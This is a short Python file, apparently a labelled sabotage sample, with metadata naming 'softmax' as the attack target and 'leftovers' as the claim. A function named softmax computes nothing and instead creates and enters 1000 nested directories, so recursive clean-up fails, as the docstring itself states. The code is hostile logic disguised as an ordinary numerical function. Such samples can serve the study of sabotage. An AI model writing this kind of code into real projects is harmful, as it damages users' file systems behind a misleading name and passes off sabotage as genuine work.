"""Leaves a folder a thousand levels deep, on which a clean-up by recursion stops.

attacks: softmax
claim: leftovers
"""

import os

def softmax(x, dim=-1):
    for _ in range(1000):
        os.mkdir("d")
        os.chdir("d")
